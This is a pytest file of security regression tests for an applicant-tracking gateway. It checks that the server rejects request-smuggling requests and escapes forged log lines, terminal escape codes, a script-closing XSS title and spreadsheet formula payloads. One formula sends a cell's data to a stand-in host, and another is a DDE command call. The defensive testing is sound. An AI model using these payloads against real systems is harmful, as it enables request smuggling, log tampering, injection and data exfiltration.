"""Findings of the third adversarial review ([21]) that are not about resumes (those are in
test_resumes.py): the server's own refusals, log forging, script-safe JSON-LD, caching, source
attribution, conflicts, dedupe, spreadsheet formulas and receipts. Each through the real HTTP
stack (gunicorn), each failed before its fix."""

from __future__ import annotations

import json
import socket
import time
import uuid

import pytest

PROBLEM = b"Content-Type: application/problem+json"


def _raw(stack, request: bytes) -> bytes:
    host, port = stack.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as s:
        s.sendall(request)
        chunks = []
        while True:
            try:
                data = s.recv(65536)
            except (TimeoutError, ConnectionResetError):
                break
            if not data:
                break
            chunks.append(data)
        return b"".join(chunks)


# ------------------------------------------------------------------- the server's refusals

REFUSED = {
    "unknown transfer coding": b"POST /v1/applications HTTP/1.1\r\nHost: x\r\n"
    b"Transfer-Encoding: xchunked\r\n\r\n",
    "duplicate content-length": b"POST /v1/applications HTTP/1.1\r\nHost: x\r\n"
    b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
    "content-length and chunked": b"POST /v1/applications HTTP/1.1\r\nHost: x\r\n"
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "two hosts": b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    "content-length +5": b"POST /v1/applications HTTP/1.1\r\nHost: x\r\n"
    b"Content-Length: +5\r\n\r\nhello",
    "content-length 0x5": b"POST /v1/applications HTTP/1.1\r\nHost: x\r\n"
    b"Content-Length: 0x5\r\n\r\nhello",
    "content-length -1": b"POST /v1/applications HTTP/1.1\r\nHost: x\r\n"
    b"Content-Length: -1\r\n\r\nhello",
    "no host on HTTP/1.1": b"GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n",
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_the_servers_refusals_are_400_problems(security_stack, case):
    answer = _raw(security_stack, REFUSED[case])
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head, f"{case}: the connection closed without an answer"
    assert head.split(b" ", 2)[1] == b"400", answer[:300]
    assert PROBLEM in head, head
    assert json.loads(body)["status"] == 400


def test_http_1_0_without_host_is_still_served(security_stack):
    answer = _raw(security_stack, b"GET /healthz HTTP/1.0\r\n\r\n")
    assert answer.split(b" ", 2)[1] == b"200", answer[:300]


# ------------------------------------------------------------------------------ log lines


def test_no_request_writes_a_forged_or_raw_control_character_into_the_logs(security_stack):
    stack = security_stack
    marker = uuid.uuid4().hex
    forged = f'127.0.0.1 [01/Jan/2026:00:00:00 +0000] "POST /v1/webhooks" 201 {marker}'
    path = "/v1/jobs/X%0d%0a" + forged.replace(" ", "%20").replace('"', "%22")
    stack.get(path)
    stack.get(f"/v1/jobs/Y{marker}%1b]0;owned%07%00Z")
    stack.get(f"/v1/jobs/Z{marker}%e2%80%ae", headers=stack.auth(stack.pk))
    stack.get("/healthz")
    text = stack.log_path.read_bytes().decode("utf-8", errors="replace")
    lines = [line for line in text.splitlines() if marker in line]
    assert len(lines) >= 3, lines
    assert not any(line.startswith("127.0.0.1 [01/Jan/2026") for line in lines), lines
    for line in lines:
        assert not any(ch in line for ch in "\x1b\x07\x00\r\u202e"), repr(line)
    assert "\\x0d\\x0a127.0.0.1 [01/Jan/2026" in text  # the attempt is visible, as one line
    assert "\\u202e" in text  # the path is read as UTF-8, its bidi override escaped


def test_receipt_tokens_are_masked_in_the_access_log(security_stack):
    stack = security_stack
    token = "InJlY2VpcHQi." + uuid.uuid4().hex + ".sig"
    stack.get(f"/v1/receipts/{token}")
    stack.get("/healthz")
    text = stack.log_text()
    assert "/v1/receipts/[token]" in text
    assert token not in text


# ------------------------------------------------------------------------------- JSON-LD


def test_jobposting_json_cannot_close_the_script_element(security_stack):
    stack = security_stack
    r = stack.get(
        f"/v1/jobs/{stack.script_job_id}/jobposting",
        headers=stack.auth(stack.pk, Origin=stack.origin),
    )
    assert r.status_code == 200, r.text[:300]
    assert "<" not in r.text and ">" not in r.text and "&" not in r.text, r.text[:300]
    # the same JSON value (the title conftest gives this job in the sandbox org)
    assert r.json()["title"] == "</script><script>alert(1)</script> & <b>"


# ------------------------------------------------------------------------------- caching


def test_responses_carrying_a_secret_are_never_stored(security_stack):
    stack = security_stack
    r = stack.post(
        "/v1/webhooks",
        json={"url": "http://127.0.0.1:9/ats", "events": ["application.delivered"]},
        headers=stack.auth(stack.operator),
    )
    assert r.status_code == 201, r.text[:300]
    assert "whsec_" in r.text
    assert "no-store" in r.headers.get("Cache-Control", ""), r.headers


def test_token_protected_feeds_are_not_for_shared_caches(security_stack):
    stack = security_stack
    key = stack.settings.feed_key_indeed
    if not key:
        pytest.skip("no Indeed feed key in the security settings")
    r = stack.get(f"/feeds/indeed.xml?token={key}")
    assert r.status_code == 200, r.text[:300]
    cache = r.headers.get("Cache-Control", "")
    assert "public" not in cache and "private" in cache, cache


# ---------------------------------------------------------------- applications: shared helpers


def _candidate(stack, **extra) -> dict:
    return {
        "job_id": stack.job_id,
        "first_name": "Ada",
        "last_name": "Lovelace",
        "email": f"ada.{uuid.uuid4().hex}@security.example.com",
        "consent": True,
        **extra,
    }


def _outbox(stack):
    from ats_gateway.services.applications.runtime import KIND
    from ats_gateway.services.delivery import Outbox

    return Outbox.from_settings(stack.redis, KIND, stack.settings)


def _stored_record(stack, application_id: str) -> dict:
    return _outbox(stack).payload(application_id)["record"]


# ------------------------------------------------------------------ source and the terminal

CONTROL_SOURCES = ["Board\x1b]0;owned\x07", "Board\x00", "Board\nforged line", "Board\u202eevil"]


@pytest.mark.parametrize("source", CONTROL_SOURCES)
def test_source_takes_no_control_characters(security_stack, source):
    stack = security_stack
    r = stack.post(
        "/v1/applications", json=_candidate(stack, source=source), headers=stack.auth(stack.sk)
    )
    assert r.status_code == 422, r.text[:300]
    assert [e["field"] for e in r.json()["errors"]] == ["source"], r.json()


def test_cli_output_escapes_what_clients_stored(security_stack):
    """A status record written before the text rule held (or by any other path) still
    reaches the operator's terminal escaped."""
    import subprocess
    import sys

    from ats_gateway.config import PROJECT_ROOT
    from ats_gateway.embedded.stack import child_env

    stack = security_stack
    outbox = _outbox(stack)
    key = outbox.item_key("legacy" + uuid.uuid4().hex)
    stack.redis.hset(
        key,
        mapping={
            "created_at": repr(time.time()),
            "source": "Evil\x1b]0;owned\x07\x1b[2J\r\nforged  999",
            "job_id": stack.job_id,
            "status": "queued",
        },
    )
    try:
        done = subprocess.run(
            [sys.executable, "-m", "ats_gateway.cli", "report", "sources", "--since", "1h"],
            env=child_env(stack.settings),
            cwd=PROJECT_ROOT,
            capture_output=True,
            timeout=60,
        )
    finally:
        stack.redis.delete(key)
    out = done.stdout.decode()
    assert done.returncode == 0, done.stderr[-500:]
    assert "Evil" in out
    assert not any(ch in out for ch in "\x1b\x07\r"), repr(out)
    assert "Evil\\x1b]0;owned\\x07\\x1b[2J\\x0d\\x0aforged" in out


# ------------------------------------------------------------------------ conflicts (409)


def test_a_conflict_names_the_application_only_to_the_key_that_sent_it(security_stack):
    stack = security_stack
    candidate = _candidate(stack)
    first = stack.post("/v1/applications", json=candidate, headers=stack.auth(stack.sk))
    assert first.status_code == 202, first.text[:300]
    application_id = first.json()["id"]
    own = stack.post("/v1/applications", json=candidate, headers=stack.auth(stack.sk))
    assert own.status_code == 409
    assert own.json()["existing_application"]["id"] == application_id  # the owner still learns
    other = stack.post("/v1/applications", json=candidate, headers=stack.auth(stack.sk_other))
    assert other.status_code == 409, other.text[:300]
    assert application_id not in other.text
    assert "existing_application" not in other.json()
    assert other.json()["reason"] == "duplicate_application"
    # the same rule for a batch item
    batch = stack.post(
        "/v1/applications/batch",
        json={"applications": [candidate]},
        headers=stack.auth(stack.sk_other),
    )
    assert batch.status_code == 207, batch.text[:300]
    assert batch.json()["items"][0]["status"] == 409
    assert application_id not in batch.text


# ---------------------------------------------------------------------------------- dedupe


@pytest.mark.parametrize(
    "first,again",
    [
        ("x.{tag}@example.com", "x.{tag}+jobs@example.com"),
        ("X.{tag}+a@Example.com", "x.{tag}+b@example.com"),
        ("ada.{tag}@gmail.com", "a.d.a.{tag}+cv@googlemail.com".replace("googlemail", "gmail")),
    ],
)
def test_a_subaddress_is_the_same_candidate(security_stack, first, again):
    stack = security_stack
    tag = uuid.uuid4().hex[:12]
    one = stack.post(
        "/v1/applications",
        json=_candidate(stack, email=first.format(tag=tag)),
        headers=stack.auth(stack.sk),
    )
    assert one.status_code == 202, one.text[:300]
    two = stack.post(
        "/v1/applications",
        json=_candidate(stack, email=again.format(tag=tag)),
        headers=stack.auth(stack.sk),
    )
    assert two.status_code == 409, two.text[:300]
    # and what the org gets is the address as typed
    assert _stored_record(stack, one.json()["id"])["bpats__Email__c"] == first.format(tag=tag)


# ------------------------------------------------------------------- spreadsheet formulas


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://e.x?"&A1,"CV")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"],
)
def test_formulas_reach_the_org_as_text(security_stack, payload):
    stack = security_stack
    r = stack.post(
        "/v1/applications",
        json=_candidate(stack, first_name=payload, phone="+1 555 0100"),
        headers=stack.auth(stack.sk),
    )
    assert r.status_code == 202, r.text[:300]
    record = _stored_record(stack, r.json()["id"])
    assert record["bpats__First_Name__c"] == "'" + payload
    assert record["bpats__Last_Name__c"] == "Lovelace"
    phones = [v for k, v in record.items() if "Phone" in k]
    assert phones == ["+1 555 0100"], record  # a phone number's + is not a formula


# --------------------------------------------------------------------------------- receipts


def test_the_first_name_leaves_redis_with_the_receipt(security_stack):
    stack = security_stack
    ip = "203.0.113.61"
    browser = stack.auth(stack.pk, Origin=stack.origin, **{"X-Forwarded-For": ip})
    form = stack.get("/v1/form-token", headers=browser).json()["form_token"]
    r = stack.post(
        "/v1/applications",
        json=_candidate(stack, first_name="Grace", form_token=form),
        headers=browser,
    )
    assert r.status_code == 202, r.text[:300]
    application_id = r.json()["id"]
    receipt = stack.get(r.json()["receipt_url"].removeprefix(stack.settings.public_url.rstrip("/")))
    assert receipt.status_code == 200, receipt.text[:300]
    assert receipt.json()["first_name"] == "Grace"
    outbox = _outbox(stack)
    # not in the status record (which outlives delivery) ...
    assert stack.redis.hget(outbox.item_key(application_id), "receipt_first_name") is None
    stored = [
        key
        for key in stack.redis.scan_iter(match=outbox.prefix + "*" + application_id + "*")
        if stack.redis.type(key) == b"string" and stack.redis.get(key) == b"Grace"
    ]
    # ... but in one key that expires with the receipt
    assert len(stored) == 1, stored
    assert 0 < stack.redis.ttl(stored[0]) <= stack.settings.application_status_ttl_days * 86400


# ------------------------------------------------------------------------------ attribution


def test_any_key_cannot_pass_for_a_signed_indeed_apply(security_stack):
    stack = security_stack
    r = stack.post(
        "/v1/applications",
        json=_candidate(
            stack,
            source="Indeed",
            utm_source="Indeed",
            utm_medium="job_board",
            utm_campaign="x; via=indeed-apply",
        ),
        headers=stack.auth(stack.sk),
    )
    assert r.status_code == 202, r.text[:300]
    application_id = r.json()["id"]
    record = _stored_record(stack, application_id)
    assert record.get("bpats__Source__c") != "Indeed", record
    text = record.get("ATS_Gateway_Source__c", "")
    if text:  # the org has the gateway's attribution field
        assert "via=unsigned" in text and "via=indeed-apply" not in text, text
    label = stack.redis.hget(_outbox(stack).item_key(application_id), "source")
    assert label == b"Indeed (unsigned)", label
